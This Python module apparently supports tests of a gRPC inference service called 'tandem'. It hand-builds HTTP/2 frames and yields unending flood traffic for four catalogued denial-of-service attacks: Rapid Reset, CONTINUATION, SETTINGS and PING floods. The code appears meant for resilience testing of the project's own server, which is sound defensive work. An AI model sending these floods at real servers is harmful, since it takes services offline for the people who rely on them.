"""Floods of HTTP/2 frames: generators of the bytes of one connection, which end only when their reader does."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping

from tandem.protocol.generated.tandem.v1 import inference_pb2 as pb

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")
AT_ONCE = 200
"""Frames in one write."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(pairs: Mapping[str, str]) -> bytes:
    """Return header fields in HPACK, as literals without indexing."""
    return b"".join(b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in pair) for pair in pairs.items())


def call(key: str) -> bytes:
    """Return the header fields of a call of `Generate`."""
    path = "/tandem.v1.Inference/Generate"
    pseudo = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "a"}
    return fields(pseudo | {"content-type": "application/grpc", "te": "trailers", "authorization": f"Bearer {key}"})


def begin() -> bytes:
    """Return what a connection begins with."""
    return PREFACE + frame(SETTINGS, 0, 0)


def rapid_reset(key: str) -> Iterator[bytes]:
    """Open calls and cancel each at once (CVE-2023-44487)."""
    yield begin()
    wanted = pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5, 6, 7, 8])).SerializeToString()
    message = b"\0" + len(wanted).to_bytes(4, "big") + wanted
    for first in range(1, 1 << 31, 2 * AT_ONCE):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, call(key))
            + frame(DATA, 0, stream, message)
            + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(first, first + 2 * AT_ONCE, 2)
        )


def continuation(key: str) -> Iterator[bytes]:
    """Continue the header of one call without an end (CVE-2024-27316)."""
    yield begin() + frame(HEADERS, 0, 1, call(key))
    part = frame(CONTINUATION, 0, 1, fields({"x": "y" * 100}) * 100)
    while True:
        yield part


def settings(_key: str) -> Iterator[bytes]:
    """Change settings, each of which the server acknowledges (CVE-2019-9515)."""
    yield begin()
    while True:
        yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")) * AT_ONCE


def ping(_key: str) -> Iterator[bytes]:
    """Send pings, each of which the server answers (CVE-2019-9512)."""
    yield begin()
    while True:
        yield frame(PING, 0, 0, b"12345678") * AT_ONCE


FLOODS: dict[str, Callable[[str], Iterator[bytes]]] = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "settings": settings,
    "ping": ping,
}
